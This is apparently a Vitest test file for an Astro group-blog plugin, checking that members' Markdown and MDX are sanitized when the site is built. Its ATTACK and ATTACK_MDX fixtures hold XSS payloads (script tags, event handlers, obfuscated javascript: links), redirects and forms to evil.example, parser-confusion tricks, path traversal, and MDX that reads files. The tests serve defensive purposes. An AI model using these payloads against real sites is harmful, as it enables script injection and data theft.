import { cpSync } from 'node:fs';
import { parseRssFeed } from 'feedsmith';
import { load, type CheerioAPI } from 'cheerio';
import { beforeAll, describe, expect, it } from 'vitest';
import { readDist, type Dist } from '../support/dist.ts';
import { createSite } from '../support/site.ts';

/**
 * Builds whatever the checks say, which the plugin does not offer, and renders the site's own Markdown with a processor of
 * the site, which lets everything through.
 */
const UNCHECKED = `import { defineConfig } from 'astro/config';
import { satteri } from '@astrojs/markdown-satteri';
import groupBlog from 'astro-group-blog';

const sign = {
  name: 'sign',
  element: { filter: ['p'], visit: (node, context) => context.setProperty(node, 'className', ['by-the-site']) },
};
const processor = { ...satteri({ hastPlugins: [sign] }), name: 'other' };

const network = groupBlog({ mdx: { Recipe: './src/Recipe.astro' } });
const check = network.hooks['astro:config:done'];
network.hooks['astro:config:done'] = async (options) => {
  await Promise.resolve(check(options)).catch(() => undefined);
  globalThis['astro-group-blog.excluded-files'] = { paths: [], aliases: [] };
};
export default defineConfig({ markdown: { processor }, integrations: [network] });
`;

const post = (title: string, body: string): string =>
  `---\ntitle: ${title}\ndate: 2026-03-05\n---\n\n${body}\n`;

const COMPONENTS = `Words by <Member id="ben" />, <Member id="nobody" />.

<Post id="ann/hello" />

<Post id="ann/coming" />

<Progress challenge="fortnight" member="ann" />

<Quote by="An old baker" cite="https://baker.example/words">

Slowly *does* it.

</Quote>

<Video src="./oven.mp4" title="The oven" poster="./square.png" />

<Video src="https://videos.example/oven" title="The oven, elsewhere" poster="./square.png" />

<Figure src="./square.png" alt="A square" caption="Four sides" />

<Recipe title="Rye" onload="alert(1)" serves={4}>Flour.</Recipe>

Press <kbd title="Escape">Esc</kbd><br/>or not, [with Ann](https://ann.example/shop), [with a stranger](https://stranger.example/).

\`\`\`html
<b>one</b>
\`\`\``;

const MARKDOWN = `Press <kbd>Esc</kbd>, or <abbr title="As soon as possible">ASAP</abbr>.<!-- never -->

<details open><summary>More</summary>

**Inside**, H<sub>2</sub>O.

</details>

<img src="./square.png" alt="A square">

![From afar](https://pictures.example/a.png) and [![A badge](https://pictures.example/b.png)](https://ann.example/)

| left | right |
| :--- | ----: |
| 1    | 2     |

- [x] done

\`\`\`js
const one = 1; // <script>
\`\`\`

A note[^1]. Words of machines: \`__ASTRO_IMAGE_="{}"\`, \\_\\_ASTRO_IMAGE\\_="1".

\`\`\`
__ASTRO_IMAGE_="{}"
\`\`\`

## main content

[^1]: At the foot.
`;

const ATTACK = `<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)><style>*{display:none}</style>

<a href="java&#10;script:alert(4)" id="main-content" class="gb-nav" style="position:fixed">one</a> [two](JaVaScRiPt:alert(5)) [three](data:text/html,x)

<iframe srcdoc="<script>alert(6)</script>"></iframe><form action="https://evil.example"><input name=q><button>Send</button></form>

<pre class="astro-code" style="position:fixed;inset:0"><code>four</code></pre>

<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><link rel=stylesheet href="//evil.example/x.css">

<noscript><p title="</noscript><img src=x onerror=alert(7)>"></noscript> <!--><img src=x onerror=alert(8)>-->

<table background="https://evil.example/t.png"><tr><td onclick="alert(9)">five</td></tr></table>

![six](../../../package.json) ![seven](astro) ![eight](node:fs) ![nine](./100%.png) ![ten](https://evil.example/p.png)

</div></article></main><h1>Eleven</h1>`;

const ATTACK_MDX = `import fs from 'node:fs'

export const frontmatter = { title: fs.readFileSync('package.json', 'utf8') }

{globalThis.process.exit(3)}

# {frontmatter.title} one

<Note title={globalThis.process.exit(3)} {...frontmatter} set:html="<img src=x onerror=alert(1)>" client:load>two</Note>

<p set:html="<img src=x onerror=alert(2)>" onClick="alert(3)" style="position:fixed">three</p>

<script>alert(4)</script><style>*</style><a href="javascript:alert(5)">four</a>

<Astro.slots.render>five</Astro.slots.render> <Unknown>six</Unknown> <>seven</> <gb-kept index="0">eight</gb-kept>

<iframe src="https://evil.example/"></iframe> ![nine](../../../astro.config.mjs) ![ten](astro)

<img src="https://evil.example/p.png" alt="eleven" /> <Figure src="fs" alt="twelve" /> <Quote cite="javascript:alert(6)">thirteen</Quote>`;

const OWN_PAGE = '# Ours\n\n<button onclick="open()">Open</button>\n\nBy us.\n';

let dist: Dist;
let output: string;

beforeAll(async () => {
  const site = createSite('three-members', {
    'astro.config.mjs': UNCHECKED,
    'src/Recipe.astro':
      '---\nconst { title } = Astro.props;\n---\n<section class="recipe"><h2>{title}</h2><slot /></section>',
    'src/pages/own.md': OWN_PAGE,
    'src/pages/own-x.mdx': `${OWN_PAGE}\n{6 * 7}\n`,
    'content/posts/ann/shows/index.mdx': post('Shows', COMPONENTS),
    'content/posts/ann/shows/oven.mp4': 'a video',
    'content/posts/ann/html/index.md': post('HTML', MARKDOWN),
    'content/posts/ben/attack.md': post('Attack', ATTACK),
    'content/posts/ben/attack-x.mdx': post('Attack X', ATTACK_MDX),
    'content/members/ben.md': `---\nname: Ben Bell\n---\n\nBio. ${ATTACK}\n`,
    'content/communities/early.md': `---\nname: Early\ninterest: Mornings\n---\n\n${ATTACK}\n`,
    'content/challenges/week.md': createSite('three-members').read('content/challenges/week.md') + ATTACK,
  });
  site.write(
    'content/network.md',
    site.read('content/network.md').replace('today:', 'components: { Recipe: [title, serves] }\ntoday:') +
      ATTACK,
  );
  for (const folder of ['ann/shows', 'ann/html'])
    cpSync(
      site.path('content/posts/ben/picture-day/square.png'),
      site.path(`content/posts/${folder}/square.png`),
    );
  const result = await site.build();
  output = result.output;
  expect(output).toContain('Complete!');
  dist = readDist(site.path('dist'));
});

/** Whether it is a script that a post without code has, too. */
const isOwnScript = (html: string): boolean => {
  const $ = dist.page('/posts/ann/hello/');
  return $('script')
    .toArray()
    .some((script) => $.html(script) === html);
};

const proseOf = (address: string): CheerioAPI =>
  load(dist.page(address)('.gb-prose').html() ?? '', null, false);
const feedOf = (title: string): CheerioAPI => {
  const item = parseRssFeed(dist.text('/rss.xml')).items?.find((one) => one.title === title);
  return load(item?.content?.encoded ?? '', null, false);
};

describe.each([
  { where: 'on the page', shows: () => proseOf('/posts/ann/shows/'), site: '', face: 'BB' },
  // Without ornaments.
  { where: 'in the feed', shows: () => feedOf('Shows'), site: 'https://three.example', face: '' },
])('components $where', ({ shows, site, face }) => {
  const linkTo = (address: string): string => `a[href="${site}${address}"]`;

  it('name a member, and nobody who is none', () => {
    expect(shows()('p').first().text()).toBe(`Words by ${face}Ben Bell, .`);
    expect(shows()(linkTo('/members/ben/'))).toHaveLength(1);
  });

  it('show a post that can be seen, and none that is to come', () => {
    const $ = shows();
    expect($(linkTo('/posts/ann/hello/')).text()).toBe('HelloAnn Abbot · February 1, 2026');
    expect($.html()).not.toContain('coming');
  });

  it('show how somebody does', () => {
    const card = shows()(linkTo('/challenges/fortnight/ann/'));
    expect(card.text()).toContain('Ann Abbot · A fortnight');
    expect(card.text()).toContain('Day 9 of 14. On pace.');
    expect(card.find('progress').attr('value')).toBe('62');
  });

  it('quote somebody', () => {
    const $ = shows();
    expect($('blockquote').attr('cite')).toBe('https://baker.example/words');
    expect($('blockquote em').text()).toBe('does');
    expect($('figcaption a[href="https://baker.example/words"]').text()).toBe('An old baker');
  });

  it('play a video beside the post, and link to one elsewhere', () => {
    const $ = shows();
    expect($('video').attr('src')).toBe(`${site}/posts/ann/shows/oven.mp4`);
    expect($('video').attr('poster')).toMatch(/\/_astro\/square\..*webp$/);
    const elsewhere = $('a[href="https://videos.example/oven"]');
    expect(elsewhere.find('img').attr('alt')).toBe('The oven, elsewhere');
    expect($('iframe')).toHaveLength(0);
  });

  it('are the site’s own too, with the attributes that it lists', () => {
    const $ = shows();
    const title = $('h2').filter((_, heading) => $(heading).text() === 'Rye');
    expect(title.parent('section').html()).toBe('<h2>Rye</h2>Flour.');
  });

  it('stand beside HTML, and code to be read', () => {
    const $ = shows();
    expect($('kbd').attr('title')).toBe('Escape');
    expect($('pre code').text()).toBe('<b>one</b>');
  });
});

describe('HTML and Markdown of a member', () => {
  it('lead to strangers as a member’s links do, and to members’ own addresses plainly', () => {
    const $ = proseOf('/posts/ann/shows/');
    const rel = (address: string): string | undefined => $(`a[href="${address}"]`).attr('rel');
    expect(rel('https://stranger.example/')).toBe('nofollow ugc noopener');
    expect(rel('https://baker.example/words')).toBe('nofollow ugc noopener');
    expect(rel('https://ann.example/shop')).toBeUndefined();
  });

  it('keep what is for words', () => {
    const $ = proseOf('/posts/ann/html/');
    for (const element of ['kbd', 'details[open] > summary', 'sub', 'abbr[title]', 'details strong'])
      expect($(element), element).toHaveLength(1);
    expect($.html()).not.toContain('never');
    expect($('input[type=checkbox][checked][disabled]')).toHaveLength(1);
    expect($('pre.astro-code').first().text()).toBe('const one = 1; // <script>');
    expect($('a[href="#ann-html-fn-1"]').attr('id')).toBe('ann-html-fnref-1');
    expect($('li#ann-html-fn-1')).toHaveLength(1);
    expect($('td').last().attr()).toEqual({ class: 'gb-align-right' });
  });

  it('have their pictures made as Markdown’s are, and linked where they come from another host', () => {
    const $ = proseOf('/posts/ann/html/');
    expect($('img')).toHaveLength(1);
    expect($('img').attr('src')).toMatch(/^\/_astro\/square\..*webp$/);
    expect($('img').attr('alt')).toBe('A square');
    expect($('a[href="https://pictures.example/a.png"]').text()).toBe('From afar');
    expect($('a[href="https://ann.example/"]').html()).toBe('A badge');
  });

  it('take none of the page’s own ids', () => {
    const $ = dist.page('/posts/ann/html/');
    expect($('[id=main-content]')).toHaveLength(1);
    expect($('main#main-content')).toHaveLength(1);
  });
});

describe('the site’s own Markdown', () => {
  it.each(['/own/', '/own-x/'])(
    'is rendered by its own processor, as if there were no members: %s',
    (address) => {
      const $ = dist.page(address);
      expect($('p.by-the-site').last().text()).toBe('By us.');
      expect($('button').attr('onclick')).toBe('open()');
      if (address === '/own-x/') expect($('body').text()).toContain('42');
    },
  );

  it('is the only Markdown that this processor renders', () => {
    for (const address of ['/posts/ann/shows/', '/posts/ann/html/', '/about/', '/members/ben/'])
      expect(dist.page(address)('.by-the-site'), address).toHaveLength(0);
  });
});

describe('a site whose MDX has a processor of its own', () => {
  it('is not built, because members’ MDX would not be made safe', async () => {
    const site = createSite('three-members', {
      'astro.config.mjs': `import { defineConfig } from 'astro/config';
import mdx from '@astrojs/mdx';
import { satteri } from '@astrojs/markdown-satteri';
import groupBlog from 'astro-group-blog';

export default defineConfig({ integrations: [mdx({ processor: satteri() }), groupBlog()] });
`,
    });
    const { status, output } = await site.build();
    expect(status).toBe(1);
    expect(output).toContain('/guest.mdx is not compiled by the processor that makes members’ MDX safe');
  });
});

describe('a site that was built without a check', () => {
  const ALLOWED =
    /^(?:href|src|alt|title|class|rel|id|style|loading|decoding|width|height|aria-label|tabindex|data-.*)$/;
  const ADDRESSES = [
    '/posts/ben/attack/',
    '/posts/ben/attack-x/',
    '/members/ben/',
    '/communities/early/',
    '/challenges/week/',
    '/about/',
  ];

  it.each([...ADDRESSES, 'Attack', 'Attack X'])('holds nothing that runs or asks elsewhere: %s', (where) => {
    const $ = where.startsWith('/') ? proseOf(where) : feedOf(where);
    expect($.text()).toMatch(/Eleven|thirteen/);
    const elements = $('*')
      .toArray()
      .filter((node) => 'attribs' in node)
      // The page puts tables into boxes, and code beside a button that copies it.
      .filter((node) => !$(node).is('div.gb-scroll[role="group"], div.gb-code-box'))
      .filter((node) => !$(node).is('.gb-code-box > button.gb-copy') && !isOwnScript($.html(node)));
    expect(elements.length).toBeGreaterThan(5);
    for (const { name, attribs } of elements) {
      expect(name).toMatch(/^(?:a|p|h[1-6]|table|tbody|tr|td|pre|code|span|aside|figure|blockquote)$/);
      for (const [attribute, value] of Object.entries(attribs)) {
        expect(attribute).toMatch(ALLOWED);
        if (attribute === 'style') expect(name).toMatch(/^(?:pre|span)$/);
        expect(value).not.toMatch(/script:|fixed|gb-nav|main-content/);
      }
    }
    expect(
      $('a[href]')
        .toArray()
        .map(({ attribs }) => attribs['href']),
    ).toEqual(['https://evil.example/p.png']);
  });

  it.each(ADDRESSES)('has its page around it whole: %s', (address) => {
    const $ = dist.page(address);
    expect($('main')).toHaveLength(1);
    expect($('main .gb-prose')).toHaveLength(1);
    expect($('script:not([src])').text()).not.toContain('alert');
  });

  it('was told all of it', () => {
    for (const code of [
      'unsafe-html',
      'unsafe-link',
      'mdx-code',
      'unknown-component',
      'missing-image',
      'foreign-image',
    ])
      expect(output).toContain(`  ${code}`);
  });
});
